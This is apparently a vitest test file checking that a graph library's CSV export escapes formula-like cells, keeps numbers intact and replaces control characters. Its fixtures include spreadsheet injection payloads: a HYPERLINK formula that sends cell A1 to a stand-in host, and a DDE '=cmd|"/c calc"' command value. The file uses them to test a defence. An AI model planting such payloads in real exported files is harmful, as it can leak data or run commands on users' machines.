// nodes.csv and edges.csv are safe to open in a spreadsheet: formula-like text gets a leading `'`, numbers stay
// numbers, control characters become U+FFFD; checked cell by cell and read back with Python's csv module.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { MultiUndirectedGraph } from 'graphology';
import { afterAll, describe, expect, it } from 'vitest';
import type { DocumentExtraction } from '@missiongraph/extract';
import { buildGraph, writeEdgesCsv, writeNodesCsv } from '../src/index.ts';
import { parseCsv } from './helpers.ts';

const tempDir = mkdtempSync(path.join(tmpdir(), 'missiongraph-csv-'));
afterAll(() => rmSync(tempDir, { recursive: true, force: true }));

const HYPERLINK = '=HYPERLINK("https://example.invalid/?q="&A1,"Open")';
const CONTROLS = 'a\u0000b\u0007c\u001bd\u007fe\u009bf';

/** A graph whose ids, labels, attribute names and values look like formulas or carry control characters. */
function formulaGraph(): MultiUndirectedGraph {
  const graph = new MultiUndirectedGraph({ allowSelfLoops: true });
  graph.addNode('@SUM(A1)', { label: HYPERLINK, aliases: ['=A1', 'plain'], facts: { note: '=1+1' }, x: -2.5, y: 3, '=evil': 'ok' });
  graph.addNode('mission:plain', { label: '+1', aliases: ['+a|b', 'c'], facts: [-1, '=x'], x: -0, y: -1e21, note: '-2+3' });
  graph.addNode('\tlead', { label: '-7', firstDocument: `folder/${CONTROLS}.txt`, x: 1, y: 1, note: "'=already marked" });
  graph.addNode('cr', { label: '\r=1+1', firstDocument: '\u0001=x', x: 0, y: 0, note: "'plain quote", flag: true });
  graph.addEdgeWithKey('-edge', '@SUM(A1)', '\tlead', { label: '+cmd', weight: -1, kind: 'co-mention' });
  graph.addEdgeWithKey('e2', 'mission:plain', 'cr', { label: 'fine', weight: 2, kind: '@kind' });
  return graph;
}

/** Rows as Python's csv module (strict RFC 4180 quoting, excel dialect) reads the file. */
function readWithPython(text: string, name: string): string[][] {
  const file = path.join(tempDir, name);
  writeFileSync(file, text, 'utf8');
  const script = [
    'import csv, json, sys',
    "with open(sys.argv[1], newline='', encoding='utf-8') as f:",
    '    print(json.dumps(list(csv.reader(f, strict=True))))',
  ].join('\n');
  const run = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  return JSON.parse(run.stdout) as string[][];
}

/** The cell of row `id` in column `column`. */
function cell(rows: string[][], id: string, column: string): string | undefined {
  const row = rows.find((candidate) => candidate[0] === id);
  expect(row, `row ${JSON.stringify(id)}`).toBeDefined();
  return row![rows[0]!.indexOf(column)];
}

/** What a reader does to get the text back: drop one leading `'` when a formula character follows the marks. */
const unmark = (text: string): string => text.replace(/^'(?='*[=+\-@\t\r])/, '');
const STARTS_LIKE_FORMULA = /^[=+\-@\t\r]/;

describe('nodes.csv and edges.csv in a spreadsheet', () => {
  const graph = formulaGraph();
  const nodesText = writeNodesCsv(graph);
  const edgesText = writeEdgesCsv(graph);

  it('mark formula-like text cells with a leading quote, ids and headers included', () => {
    const nodes = parseCsv(nodesText);
    expect(nodes[0]).toContain("'=evil");
    expect(nodes.map((row) => row[0])).toEqual(['id', "'@SUM(A1)", 'mission:plain', "'\tlead", 'cr']);
    expect(cell(nodes, "'@SUM(A1)", 'label')).toBe(`'${HYPERLINK}`);
    expect(cell(nodes, 'mission:plain', 'label')).toBe("'+1");
    expect(cell(nodes, 'mission:plain', 'note')).toBe("'-2+3");
    expect(cell(nodes, "'\tlead", 'label')).toBe("'-7");
    expect(cell(nodes, 'cr', 'label')).toBe("'\r=1+1");
    // Text that already starts with `'` before a formula character gets one more, so unmarking is exact.
    expect(cell(nodes, "'\tlead", 'note')).toBe("''=already marked");
    expect(cell(nodes, 'cr', 'note')).toBe("'plain quote");
    const edges = parseCsv(edgesText);
    expect(edges[1]!.slice(0, 3)).toEqual(["'-edge", "'@SUM(A1)", "'\tlead"]);
    expect(cell(edges, "'-edge", 'label')).toBe("'+cmd");
    expect(cell(edges, 'e2', 'kind')).toBe("'@kind");
    // The raw file: the formula text is never the first character of a field.
    expect(nodesText).toContain(`,"'=HYPERLINK(""https://example.invalid/?q=""&A1,""Open"")",`);
    expect(nodesText).not.toMatch(/(^|,|\r\n)"?[=+@]/);
  });

  it('keep numbers as numbers, a negative number included, and leave booleans alone', () => {
    const nodes = parseCsv(nodesText);
    expect(cell(nodes, "'@SUM(A1)", 'x')).toBe('-2.5');
    expect(cell(nodes, 'mission:plain', 'x')).toBe('0');
    expect(cell(nodes, 'mission:plain', 'y')).toBe('-1e+21');
    expect(cell(nodes, 'cr', 'flag')).toBe('true');
    expect(cell(parseCsv(edgesText), "'-edge", 'weight')).toBe('-1');
  });

  it('mark a |-joined list once, as a whole cell, and never a JSON cell', () => {
    const nodes = parseCsv(nodesText);
    expect(cell(nodes, "'@SUM(A1)", 'aliases')).toBe("'=A1|plain");
    expect(cell(nodes, "'@SUM(A1)", 'facts')).toBe('{"note":"=1+1"}');
    expect(cell(nodes, 'mission:plain', 'aliases')).toBe('["+a|b","c"]');
    expect(cell(nodes, 'mission:plain', 'facts')).toBe('[-1,"=x"]');
    expect(JSON.parse(cell(nodes, 'mission:plain', 'aliases')!)).toEqual(['+a|b', 'c']);
  });

  it('write control characters other than tab, LF and CR as U+FFFD', () => {
    const nodes = parseCsv(nodesText);
    expect(cell(nodes, "'\tlead", 'firstDocument')).toBe('folder/a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf.txt');
    expect(cell(nodes, 'cr', 'firstDocument')).toBe('\ufffd=x');
    for (const text of [nodesText, edgesText]) expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
  });

  it("read back with Python's csv module: marks visible, numbers intact, the text back after one unmark", () => {
    const nodes = readWithPython(nodesText, 'nodes.csv');
    expect(nodes).toEqual(parseCsv(nodesText));
    expect(nodes.map((row) => row.length)).toEqual(Array(graph.order + 1).fill(nodes[0]!.length));
    expect(cell(nodes, "'@SUM(A1)", 'label')).toBe(`'${HYPERLINK}`);
    expect(cell(nodes, 'cr', 'label')).toBe("'\r=1+1");
    expect(Number(cell(nodes, "'@SUM(A1)", 'x'))).toBe(-2.5);
    expect(Number(cell(nodes, 'mission:plain', 'y'))).toBe(-1e21);
    for (const row of nodes) for (const field of row) expect(field, JSON.stringify(field)).not.toMatch(/^[=+@\t\r]/);
    const header = nodes[0]!;
    graph.forEachNode((node, attributes) => {
      const row = nodes.find((candidate) => unmark(candidate[0]!) === node)!;
      expect(row, node).toBeDefined();
      for (const name of ['label', 'note']) {
        const value = attributes[name] as string | undefined;
        if (value !== undefined) expect(unmark(row[header.indexOf(name)]!)).toBe(value);
      }
    });
    const edges = readWithPython(edgesText, 'edges.csv');
    expect(edges).toEqual(parseCsv(edgesText));
    expect(edges.slice(1).map((row) => row.slice(0, 3).map(unmark))).toEqual(graph.mapEdges((edge, _attributes, source, target) => [edge, source, target]));
    expect(Number(cell(edges, "'-edge", 'weight'))).toBe(-1);
    // A text cell only starts with `-` when it is a number.
    for (const row of [...nodes, ...edges]) for (const field of row) if (field.startsWith('-')) expect(Number.isFinite(Number(field)), field).toBe(true);
    expect(STARTS_LIKE_FORMULA.test(cell(edges, 'e2', 'kind')!)).toBe(false);
  });

  it('protect names that come from the corpus: entity ids, labels, aliases and document names', () => {
    const corpus: DocumentExtraction[] = [
      {
        document: { id: '=cmd|"/c calc"!A0\u0007.txt', format: 'transcript', sentenceCount: 1, characters: 40, speakers: [] },
        sentences: [{ index: 0, text: '=SUM(1) met @team.' }],
        entities: [
          { id: 'person:=sum', label: '=SUM(1)', type: 'person', aliases: ['=SUM(1)'], mentions: 1 },
          { id: 'organization:@team', label: '@team', type: 'organization', aliases: ['@team', '-team'], mentions: 1 },
        ],
        mentions: [
          { entity: 'person:=sum', sentence: 0, start: 0, end: 7, surface: '=SUM(1)' },
          { entity: 'organization:@team', sentence: 0, start: 12, end: 17, surface: '@team' },
        ],
        coMentions: [{ source: 'person:=sum', target: 'organization:@team', sentence: 0 }],
        warnings: [],
      },
    ];
    const built = buildGraph(corpus);
    const nodes = readWithPython(writeNodesCsv(built), 'built-nodes.csv');
    expect(cell(nodes, 'person:=sum', 'label')).toBe("'=SUM(1)");
    expect(cell(nodes, 'person:=sum', 'firstDocument')).toBe(`'=cmd|"/c calc"!A0\ufffd.txt`);
    expect(cell(nodes, 'organization:@team', 'aliases')).toBe("'-team|@team");
    for (const row of nodes) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
